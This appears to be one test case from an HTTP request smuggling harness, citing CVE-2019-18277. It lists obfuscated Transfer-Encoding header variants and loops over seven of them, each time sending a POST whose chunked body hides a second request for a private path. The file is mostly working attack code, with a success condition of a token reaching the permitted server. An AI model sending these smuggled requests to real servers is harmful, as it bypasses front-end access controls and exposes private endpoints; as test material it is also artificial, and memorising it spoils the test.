// technique: hides a request behind a transfer coding that only one server takes for chunked
// source: TE.TE; CVE-2019-18277
// success: the permitted server got the token
// control: outside
// policy: network
// beside: origins
import { get, PRIVATE, PUBLIC, post, say } from './wire.mjs';

const codings = [
  'Transfer-Encoding: xchunked',
  'Transfer-Encoding : chunked',
  'Transfer-Encoding:\x0bchunked',
  'Transfer-Encoding: chunked, identity',
  'Transfer-Encoding: identity, chunked',
  'Transfer-Encoding: "chunked"',
  'X: y\nTransfer-Encoding: chunked',
  'Transfer_Encoding: chunked\r\nContent-Length: 0',
];
for (const line of codings.slice(0, 7))
  await say(process.env.ALLOWED_HTTP, [post(PUBLIC, `${line}\r\n`, `0\r\n\r\n${get(PRIVATE)}`)]);
